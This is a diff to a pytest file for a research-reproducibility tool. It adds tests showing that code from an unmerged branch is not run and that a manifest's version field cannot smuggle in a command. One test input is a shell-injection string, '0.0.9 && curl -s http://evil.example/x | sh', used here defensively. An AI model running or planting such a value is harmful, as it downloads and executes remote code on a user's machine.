@@ -6,7 +6,7 @@ import shutil
 import pytest
 from command_line import command, refused
 from small_edition import relogged
-from small_project import NAME, verified
+from small_project import NAME, SOURCE, verified
 
 from tipresearch import files
 from tipresearch.errors import TipResearchError
@@ -153,6 +153,34 @@ def test_recorded_input_is_taken_from_history(small):
     assert found.differences == []
     assert [r for r in found.remarks if "figures.csv has changed since; commit" in r]
     assert found.rebuilt
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("named", ["no branch", "a tag", "merged"])
+def test_a_commit_that_was_only_fetched_is_no_history(small, named):
+    """Of a stranger's branch neither notebook nor data are taken, whatever names it, until it is merged."""
+    small.commit()
+    told = small.home / "pwned"
+    small.git("checkout", "-q", "-b", "stranger")
+    small.notebook(f"open({str(told)!r}, 'w').close()\n{SOURCE}")
+    theirs = small.commit("theirs")
+    edition, _ = small.build()
+    told.unlink()
+    small.git("checkout", "-q", "-")
+    small.git("merge" if named == "merged" else "tag", *(["-q"] if named == "merged" else ["theirs"]), "stranger")
+    small.git("branch", "-q", "-D", "stranger")
+    if named == "no branch":
+        small.git("tag", "-d", "theirs")
+    assert small.git("cat-file", "-t", theirs) == "commit"
+    small.notebook()
+    found = verified(edition)
+    if named == "merged":
+        assert told.exists()
+        assert found.differences == []
+        return
+    assert not told.exists()
+    (why,) = [d.why for d in found.differences if d.what == "notebooks/small.ipynb"]
+    assert why == f"code changed; commit {theirs[:10]} is not in the history that is checked out here"
 
 
 def resealed(edition, **changes):
@@ -366,8 +394,23 @@ def test_what_cannot_be_verified_is_one_line(small, edition, tmp_path):
     old = {k: v for k, v in manifest.items() if k not in ("format", "tipresearch", "files", "manifest_sha256")}
     old |= {"packages": {"tipresearch": "0.0.9"}, "commit": "abc1234" * 5 + "abcde"}
     (edition / "manifest.json").write_text(json.dumps(old), encoding="utf-8")
-    refused(command("verify", edition), "was made by an older version, tipresearch 0.0.9")
-    refused(command("verify", edition), f"git checkout {'abc1234' * 5}abcde")
+    refused(command("verify", edition), "was made by an older version, tipresearch '0.0.9'")
+    refused(command("verify", edition), "verify it with that version: its wheel, from where this one came")
+    old["commit"] = small.commit()
+    (edition / "manifest.json").write_text(json.dumps(old), encoding="utf-8")
+    refused(command("verify", edition), f"verify it with that version: git checkout {old['commit']}")
+
+
+@pytest.mark.parametrize("version", ["0.0.9 && curl -s http://evil.example/x | sh", "0.0.9 --index-url x", "0\n"])
+def test_a_manifest_words_no_command(small, edition, version):
+    """Its version is one, or the edition is damaged; of a commit that is not of this history nothing is to be done."""
+    manifest = manifests.read_manifest(edition) | {"format": manifests.FORMAT - 1, "commit": "0" * 40}
+    resealed(edition, **manifest | {"tipresearch": version})
+    refused(command("verify", edition), "is not a version of at most 50 letters, digits and")
+    resealed(edition, **manifest | {"tipresearch": "", "packages": {"tipresearch": version}})
+    done = command("verify", edition)
+    refused(done, f"tipresearch {version!r} (format ")
+    assert done.stderr.rstrip().endswith("verify it with that version: its wheel, from where this one came")
 
 
 @pytest.mark.slow
